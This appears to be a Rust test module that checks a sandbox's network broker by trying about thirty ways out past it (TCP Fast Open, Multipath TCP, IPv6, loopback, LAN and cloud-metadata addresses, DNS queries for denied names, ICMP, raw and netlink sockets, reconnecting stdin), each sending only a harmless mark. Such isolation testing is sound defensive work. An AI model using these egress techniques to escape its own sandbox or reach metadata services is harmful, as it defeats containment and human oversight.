//! Ways out past the broker. A connection that the broker itself accepts proves nothing, so these attacks only send
//! their mark; whether it arrived is for the host to say.

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV4, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::Duration;

use nix::sys::socket::{MsgFlags, SockaddrIn, connect as connect_number, sendto};

use super::{Act, Outcome, Scene, call, number, variable, why};
use crate::sys::descriptor::inherited;

pub(super) const ATTACKS: &[(&str, Act)] = &[
    ("tcp-other-port", |scene| tcp((scene.aim.internet, scene.aim.other_port).into(), scene.mark)),
    ("tcp-address-literal", |scene| tcp((scene.aim.internet, 443).into(), scene.mark)),
    ("tcp-ipv6", |scene| tcp((scene.aim.internet_v6, scene.aim.other_port).into(), scene.mark)),
    ("tcp-ipv6-web", |scene| tcp((scene.aim.internet_v6, 443).into(), scene.mark)),
    ("tcp-fast-open", fast_open),
    ("tcp-multipath", multipath),
    ("tcp-port-of-the-broker", port_of_the_broker),
    ("tcp-link-local", |scene| tcp(scene.aim.link_local.into(), scene.mark)),
    ("host-loopback", |scene| tcp((Ipv4Addr::LOCALHOST, scene.aim.host_port).into(), scene.mark)),
    ("host-loopback-ipv6", |scene| tcp((Ipv6Addr::LOCALHOST, scene.aim.host_port).into(), scene.mark)),
    ("host-loopback-connect", |scene| connect(&format!("127.0.0.1:{}", scene.aim.host_port), scene.mark)),
    ("host-loopback-connect-name", |scene| connect(&format!("localhost:{}", scene.aim.host_port), scene.mark)),
    ("host-loopback-connect-mapped", |scene| {
        connect(&format!("[::ffff:127.0.0.1]:{}", scene.aim.host_port), scene.mark)
    }),
    ("host-loopback-udp", |scene| udp((Ipv4Addr::LOCALHOST, scene.aim.host_port).into(), scene.mark.as_bytes())),
    ("lan-web", |scene| http(scene.aim.lan, scene.mark)),
    ("lan-connect", |scene| connect(&format!("{}:80", scene.aim.lan), scene.mark)),
    ("lan-by-name", |scene| connect("service.internal.example:80", scene.mark)),
    ("metadata-web", |scene| http(scene.aim.metadata, scene.mark)),
    ("metadata-connect", |scene| connect(&format!("{}:80", scene.aim.metadata), scene.mark)),
    ("udp-other-port", |scene| udp((scene.aim.internet, scene.aim.other_port).into(), scene.mark.as_bytes())),
    ("udp-quic", |scene| udp((scene.aim.internet, 443).into(), scene.mark.as_bytes())),
    ("udp-ipv6", |scene| udp((scene.aim.internet_v6, scene.aim.other_port).into(), scene.mark.as_bytes())),
    ("udp-to-port-53", |scene| udp((scene.aim.internet, 53).into(), scene.mark.as_bytes())),
    ("dns-denied-name", |scene| udp((scene.aim.internet, 53).into(), &question(scene.mark))),
    ("dns-denied-name-by-libc", by_libc),
    ("icmp-datagram", |scene| echo_request(libc::SOCK_DGRAM, scene)),
    ("icmp-raw", |scene| echo_request(libc::SOCK_RAW, scene)),
    ("packet-socket", |_| {
        socket(libc::AF_PACKET, libc::SOCK_RAW, 0x0300).map(|_| "every packet of the namespace".into())
    }),
    ("vsock", |_| family(libc::AF_VSOCK)),
    ("bluetooth", |_| family(libc::AF_BLUETOOTH)),
    ("netlink-audit", |_| {
        socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_AUDIT).map(|_| "netlink of the audit system".into())
    }),
    ("host-network-by-stdin", host_network_by_stdin),
];

const PATIENCE: Duration = Duration::from_secs(10);

fn tcp(address: SocketAddr, mark: &str) -> Outcome {
    let stream = TcpStream::connect_timeout(&address, PATIENCE).map_err(why("connect"))?;
    say(stream, &format!("{mark}\n"))
}

fn socket(family: i32, kind: i32, protocol: i32) -> Result<OwnedFd, String> {
    let made = call(libc::SYS_socket, vec![number(family), number(kind), number(protocol)]).map_err(why("socket"))?;
    inherited(i32::try_from(made).map_err(why("socket"))?).map_err(why("socket"))
}

fn family(family: i32) -> Outcome {
    socket(family, libc::SOCK_STREAM, 0).map(|_| format!("a socket of family {family}"))
}

fn internet(scene: &Scene) -> SockaddrIn {
    SocketAddrV4::new(scene.aim.internet, scene.aim.other_port).into()
}

/// Connects by sending (RFC 7413), which no check of connect(2) sees.
fn fast_open(scene: &Scene) -> Outcome {
    let socket = socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    let text = format!("{}\n", scene.mark);
    let flags = MsgFlags::from_bits_retain(libc::MSG_FASTOPEN);
    sendto(socket.as_raw_fd(), text.as_bytes(), &internet(scene), flags).map_err(why("sendto"))?;
    say(TcpStream::from(socket), "\n")
}

/// Multipath TCP (RFC 8684), which is no TCP to a check of TCP.
fn multipath(scene: &Scene) -> Outcome {
    let socket = socket(libc::AF_INET, libc::SOCK_STREAM, libc::IPPROTO_MPTCP)?;
    connect_number(socket.as_raw_fd(), &internet(scene)).map_err(why("connect"))?;
    say(TcpStream::from(socket), &format!("{}\n", scene.mark))
}

/// Another host, on the port on which the broker listens: whether the kernel goes and asks it.
fn port_of_the_broker(scene: &Scene) -> Outcome {
    let proxy = variable("HTTPS_PROXY").ok_or("there is no proxy")?;
    let port: Option<u16> = proxy.rsplit(':').next().and_then(|port| port.trim_end_matches('/').parse().ok());
    match TcpStream::connect_timeout(&SocketAddr::from((scene.aim.lan, port.ok_or("no port")?)), PATIENCE) {
        Err(error) if error.kind() == std::io::ErrorKind::ConnectionRefused => Ok("the other host was asked".into()),
        Err(error) => Err(format!("connect: {error}")),
        Ok(_) => Ok("connected".into()),
    }
}

/// Sends a text and gives what came back.
pub(super) fn say(mut stream: impl Read + Write, text: &str) -> Outcome {
    stream.write_all(text.as_bytes()).map_err(why("write"))?;
    let mut answer = [0; 512];
    let length = stream.read(&mut answer).map_err(why("read"))?;
    Ok(String::from_utf8_lossy(&answer[..length]).into_owned())
}

fn http(address: Ipv4Addr, mark: &str) -> Outcome {
    let stream = TcpStream::connect_timeout(&(address, 80).into(), PATIENCE).map_err(why("connect"))?;
    say(stream, &format!("GET /{mark} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n"))
}

/// Where the run's explicit proxy listens, `host:port`.
pub(super) fn proxy() -> Option<String> {
    let url = variable("HTTPS_PROXY")?;
    url.rsplit(['@', '/']).find(|part| !part.is_empty()).map(str::to_owned)
}

/// Through the explicit proxy where there is one; outside a run, directly.
pub(super) fn connect(target: &str, mark: &str) -> Outcome {
    let Some(address) = proxy() else {
        let addresses = target.to_socket_addrs().map_err(why("resolve"))?;
        let addresses: Vec<_> = addresses.collect();
        return say(TcpStream::connect(&*addresses).map_err(why("connect"))?, &format!("{mark}\n"));
    };
    let mut stream = TcpStream::connect(address).map_err(why("connect to the proxy"))?;
    let request = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
    stream.write_all(request.as_bytes()).map_err(why("write"))?;
    let mut head = Vec::new();
    let mut byte = [0];
    while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).map_err(why("read"))? == 1 {
        head.extend_from_slice(&byte);
    }
    if !head.starts_with(b"HTTP/1.1 200") {
        return Err(String::from_utf8_lossy(&head).lines().next().unwrap_or_default().to_owned());
    }
    say(stream, &format!("GET /{mark} HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n"))
}

fn udp(address: SocketAddr, bytes: &[u8]) -> Outcome {
    let local: IpAddr = if address.is_ipv4() { Ipv4Addr::UNSPECIFIED.into() } else { Ipv6Addr::UNSPECIFIED.into() };
    let socket = UdpSocket::bind((local, 0)).map_err(why("bind"))?;
    socket.send_to(bytes, address).map_err(why("send"))?;
    // Long enough for a host that answers; a broker that swallows the datagram answers never.
    socket.set_read_timeout(Some(Duration::from_secs(1))).map_err(why("timeout"))?;
    let mut answer = [0; 512];
    let length = socket.recv(&mut answer).map_err(why("receive"))?;
    Ok(format!("{length} bytes came back"))
}

/// A question for the address of a name below a domain that nobody allowed.
fn question(mark: &str) -> Vec<u8> {
    let mut query = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [mark, "denied", "example"] {
        query.push(u8::try_from(label.len()).unwrap_or(0));
        query.extend_from_slice(label.as_bytes());
    }
    query.extend_from_slice(&[0, 0, 1, 0, 1]);
    query
}

fn by_libc(scene: &Scene) -> Outcome {
    let name = format!("{}.denied.example:443", scene.mark);
    let found = name.to_socket_addrs().map_err(why("resolve"))?.next();
    found.map(|address| address.to_string()).ok_or_else(|| "no address".into())
}

/// An echo request (RFC 792) with the mark as its data.
fn echo_request(kind: i32, scene: &Scene) -> Outcome {
    let socket = socket(libc::AF_INET, kind, libc::IPPROTO_ICMP)?;
    let mut packet = vec![8, 0, 0, 0, 0, 1, 0, 1];
    packet.extend_from_slice(scene.mark.as_bytes());
    packet.resize(packet.len().next_multiple_of(2), 0);
    let words = packet.chunks(2).map(|pair| pair.iter().fold(0_u32, |word, byte| word << 8 | u32::from(*byte)));
    let sum: u32 = words.sum();
    let sum = !u16::try_from((sum & 0xffff) + (sum >> 16)).unwrap_or(0);
    packet[2..4].copy_from_slice(&sum.to_be_bytes());
    sendto(socket.as_raw_fd(), &packet, &internet(scene), MsgFlags::empty())
        .map_err(why("sendto"))
        .map(|sent| format!("{sent} bytes sent"))
}

/// Standard input is a socket of the network that the run was started in: connected anew, it reaches anything there.
fn host_network_by_stdin(_: &Scene) -> Outcome {
    let another = SockaddrIn::from(SocketAddrV4::new(Ipv4Addr::LOCALHOST, 48_123));
    connect_number(0, &another).map_err(why("connect"))?;
    Ok("stdin is connected to another port of the host".into())
}
